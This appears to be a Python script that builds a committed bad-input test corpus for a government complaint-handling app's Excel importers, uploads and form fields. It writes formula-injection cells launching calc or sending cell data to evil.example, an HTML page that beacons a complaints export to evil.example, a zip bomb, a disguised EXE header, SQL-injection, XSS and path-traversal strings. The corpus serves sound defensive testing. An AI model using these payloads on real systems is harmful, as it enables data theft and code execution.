"""Write the bad-input corpus next to this script: `python tests/robustness/corpus/make_corpus.py`.

The files are committed; run this again after changing it and commit what it writes.
Everything is deterministic (fixed timestamps in the zip entries), so regenerating an
unchanged corpus changes no bytes.

excel/<importer>/   hostile workbooks for each Excel import the app has:
    hotline     complaints imported from a 12345 hotline system (complaints:import)
    ledger      a unit's rectification ledger (campaign:ledger_import)
    scores      evaluation scores (assessments:evaluation_import)
    units       units in the admin's import-export (admin:units_unit_import)
    people      people in the admin's import-export (admin:units_person_import)
    responsibilities  who is responsible for which unit (admin:units_responsibility_import)
  each with wrong_headers, merged_cells, formulas, dates_as_text, unknown_unit
excel/          not_excel.xlsx (a PDF renamed), empty.xlsx (0 bytes), zip_bomb.xlsx (a
                valid workbook whose sheet inflates to 200 MB; 200 KB on disk)
uploads/        files whose extension lies: a Windows program and an HTML page named .jpg/.pdf
text.json       over-long and control-character strings every public form field must refuse
                (SQL and HTML are ordinary text there, escaped on output; codes.json has them)
                ([text, n] stands for the text repeated n times)
codes.json      forged tracking codes and survey rater tokens

The 100,000-row workbooks are not committed: at ~3 MB each they would bloat the history for
no gain. `rows_workbook()` builds them at test time (about a second each, raw XML).
"""

from __future__ import annotations

import io
import json
import zipfile
from pathlib import Path

from openpyxl import Workbook

HERE = Path(__file__).resolve().parent
FIXED_TIME = (2026, 1, 1, 0, 0, 0)

# The columns each importer expects, as a clerk's sheet has them.
HEADERS = {
    "hotline": ["工单编号", "来电时间", "诉求标题", "诉求内容", "被反映单位", "诉求类别"],
    "ledger": ["编号", "单位编码", "问题描述", "整改措施", "整改时限", "责任人"],
    "scores": ["单位编码", "单位名称", "考核指标", "得分", "备注"],
    "units": ["单位编码", "单位名称", "简称", "单位类型", "上级单位编码", "考核组别", "排序"],
    "people": ["姓名", "职务", "手机号", "邮箱", "所在单位编码", "登录账号"],
    "responsibilities": ["单位编码", "姓名", "手机号", "责任类型", "开始日期", "结束日期"],
}
# A row that would be accepted, to be spoiled one way or another below.
GOOD_ROW = {
    "hotline": ["GD-0001", "2026-03-02 09:30", "办证拖延", "反映窗口办证拖延", "SLX-SCJ", ""],
    "ledger": ["", "SLX-SCJ", "窗口授权不到位", "授权窗口即办", "2026-12-31", "张科长"],
    "scores": ["T-U1", "", "重点工作", 90, ""],
    "units": ["SLX-NEW", "新设单位", "", "部门", "SLX", "", 1],
    "people": ["吴新", "科长", "13900000000", "wu@example.gov.cn", "SLX-SCJ", ""],
    "responsibilities": ["SLX-SCJ", "赵局长", "", "第一责任人", "2026-01-01", ""],
}
# Which column holds a unit code, and which a date, per importer.
UNIT_COLUMN = {
    "hotline": 4,
    "ledger": 1,
    "scores": 0,
    "units": 4,
    "people": 4,
    "responsibilities": 0,
}
DATE_COLUMN = {
    "hotline": 1,
    "ledger": 4,
    "scores": 3,
    "units": 6,
    "people": 3,
    "responsibilities": 4,
}

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/steal?x="&A1,"点击查看")',
    "=1+1",
    "@SUM(1,2)",
    "+cmd|' /C notepad'!A0",
    "-2+3",
]


def _save(book: Workbook) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return _normalise_zip(out.getvalue())


def _normalise_zip(data: bytes) -> bytes:
    """Same bytes every run: openpyxl stamps the current time into the zip and core.xml."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            content = source.read(info.filename)
            if info.filename == "docProps/core.xml":
                content = b'<?xml version="1.0" encoding="UTF-8"?><cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties"/>'
            fixed = zipfile.ZipInfo(info.filename, date_time=FIXED_TIME)
            fixed.compress_type = zipfile.ZIP_DEFLATED
            target.writestr(fixed, content)
    return out.getvalue()


def _sheet(headers: list, rows: list[list]) -> Workbook:
    book = Workbook()
    sheet = book.active
    sheet.append(headers)
    for row in rows:
        sheet.append(row)
    return book


def excel_cases(importer: str) -> dict[str, bytes]:
    headers, good = HEADERS[importer], GOOD_ROW[importer]
    cases: dict[str, bytes] = {}

    wrong = ["编码", "名称", "Title", "内容?", "", "列6", "列7"][: len(headers)]
    cases["wrong_headers"] = _save(_sheet(wrong, [good]))

    book = _sheet(headers, [good, good])
    book.active.merge_cells(start_row=1, start_column=1, end_row=3, end_column=len(headers))
    cases["merged_cells"] = _save(book)

    rows = []
    for formula in FORMULAS:
        row = list(good)
        for column in range(len(row)):
            row[column] = formula
        rows.append(row)
    cases["formulas"] = _save(_sheet(headers, rows))

    rows = []
    for text in ["明年三月", "2026年13月45日", "31/02/2026", "昨天", "０２／０３"]:
        row = list(good)
        row[DATE_COLUMN[importer]] = text
        rows.append(row)
    cases["dates_as_text"] = _save(_sheet(headers, rows))

    row = list(good)
    row[UNIT_COLUMN[importer]] = "NO-SUCH-UNIT-9999"
    cases["unknown_unit"] = _save(_sheet(headers, [row]))
    return cases


def rows_workbook(importer: str, count: int = 100_000) -> bytes:
    """A well-formed sheet of `count` data rows (built at test time, see the docstring).

    Written as raw SpreadsheetML with inline strings: openpyxl takes ~5 s per file here.
    """
    from xml.sax.saxutils import escape

    def cells(values: list, r: int) -> str:
        out = []
        for c, value in enumerate(values):
            ref = f"{chr(65 + c)}{r}"
            if isinstance(value, int | float):
                out.append(f'<c r="{ref}"><v>{value}</v></c>')
            else:
                text = escape(str(value))
                out.append(f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>')
        return f'<row r="{r}">{"".join(out)}</row>'

    good = GOOD_ROW[importer]
    rows = [cells(HEADERS[importer], 1)]
    for n in range(count):
        row = list(good)
        if importer == "hotline":
            row[0] = f"GD-{n:06d}"
        rows.append(cells(row, n + 2))
    sheet = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f"<sheetData>{''.join(rows)}</sheetData></worksheet>"
    )
    ns = "http://schemas.openxmlformats.org"
    parts = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            f'<Types xmlns="{ns}/package/2006/content-types">'
            '<Default Extension="rels" '
            'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
        ),
        "_rels/.rels": (
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{ns}/package/2006/'
            f'relationships"><Relationship Id="rId1" Type="{ns}/officeDocument/2006/'
            'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
        ),
        "xl/workbook.xml": (
            f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{ns}/spreadsheetml/2006/'
            f'main" xmlns:r="{ns}/officeDocument/2006/relationships"><sheets>'
            '<sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
        ),
        "xl/_rels/workbook.xml.rels": (
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{ns}/package/2006/'
            f'relationships"><Relationship Id="rId1" Type="{ns}/officeDocument/2006/'
            'relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
        ),
        "xl/worksheets/sheet1.xml": sheet,
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            info = zipfile.ZipInfo(name, date_time=FIXED_TIME)
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, text.encode())
    return out.getvalue()


def zip_bomb(inflated_mb: int = 200) -> bytes:
    """A real workbook whose one sheet is padded to `inflated_mb` MB of XML."""
    base = zipfile.ZipFile(io.BytesIO(_save(_sheet(HEADERS["hotline"], [GOOD_ROW["hotline"]]))))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as target:
        for info in base.infolist():
            content = base.read(info.filename)
            fixed = zipfile.ZipInfo(info.filename, date_time=FIXED_TIME)
            fixed.compress_type = zipfile.ZIP_DEFLATED
            if info.filename == "xl/worksheets/sheet1.xml":
                # Whitespace between elements is legal XML: the parser must wade through it.
                head, tail = content.split(b"</sheetData>", 1)
                chunk = b" " * (1024 * 1024)
                with target.open(fixed, "w") as stream:
                    stream.write(head)
                    for _ in range(inflated_mb):
                        stream.write(chunk)
                    stream.write(b"</sheetData>" + tail)
                continue
            target.writestr(fixed, content)
    return out.getvalue()


PNG_1PX = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00"
    b"\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00\x00"
    b"\x00\x00IEND\xaeB`\x82"
)
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + b"PE\x00\x00"
EXE += b"\x4c\x01" + b"\x00" * 200
HTML = (
    b"<!doctype html><html><body><script>fetch('/complaints/export.xlsx')"
    b".then(r=>r.blob()).then(b=>navigator.sendBeacon('//evil.example',b))</script></body></html>"
)

UPLOADS = {
    "program.exe.jpg": EXE,
    "program.exe.pdf": EXE,
    "page.html.jpg": HTML,
    "page.html.pdf": HTML,
    "page.html.png": HTML,
}

TEXT = {
    "nul_bytes": "投诉\x00内容\x00",
    "control_chars": "标题\x01\x02\x07\x1b[31m红色\x1b[0m\x7f",
    "rtl_override": "正常文字\u202etxt.exe\u202c",
    "zero_width": "\u200b\u200c\u200d\ufeff",
    # [text, n]: the text repeated n times (kept short on disk, expanded by the tests).
    "very_long": ["长", 100_000],
    "very_long_ascii": ["A", 100_000],
    "bidi_isolate": "\u2067投诉人\u2069",
}

CODES = {
    "tracking": [
        "0000-0000-0000-0000",
        "ZZZZ-ZZZZ-ZZZZ-ZZZZ",
        "' OR '1'='1' --",
        "<script>alert(1)</script>",
        "ＡＢＣＤ－ＥＦＧＨ－ＪＫＭＮ－ＰＱＲＳ",  # full-width lookalikes
        "АВСD-EFGH-JKMN-PQRS",  # Cyrillic А, В, С
        ["1", 5000],
        "\x00" * 16,
        "%00%27%22",
    ],
    "rater": [
        "forged-token",
        "' OR 1=1 --",
        "<img src=x onerror=alert(1)>",
        "ＡＢＣＤ１２３４",
        ["a", 5000],
        "..%2F..%2Fetc%2Fpasswd",
    ],
}


def main() -> None:
    for importer in HEADERS:
        folder = HERE / "excel" / importer
        folder.mkdir(parents=True, exist_ok=True)
        for name, data in excel_cases(importer).items():
            (folder / f"{name}.xlsx").write_bytes(data)
    excel = HERE / "excel"
    (excel / "not_excel.xlsx").write_bytes(
        b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\n%%EOF\n"
    )
    (excel / "empty.xlsx").write_bytes(b"")
    (excel / "zip_bomb.xlsx").write_bytes(zip_bomb())
    uploads = HERE / "uploads"
    uploads.mkdir(exist_ok=True)
    for name, data in UPLOADS.items():
        (uploads / name).write_bytes(data)
    (HERE / "text.json").write_text(
        json.dumps(TEXT, ensure_ascii=True, indent=1) + "\n", encoding="utf-8"
    )
    (HERE / "codes.json").write_text(
        json.dumps(CODES, ensure_ascii=True, indent=1) + "\n", encoding="utf-8"
    )


if __name__ == "__main__":
    main()
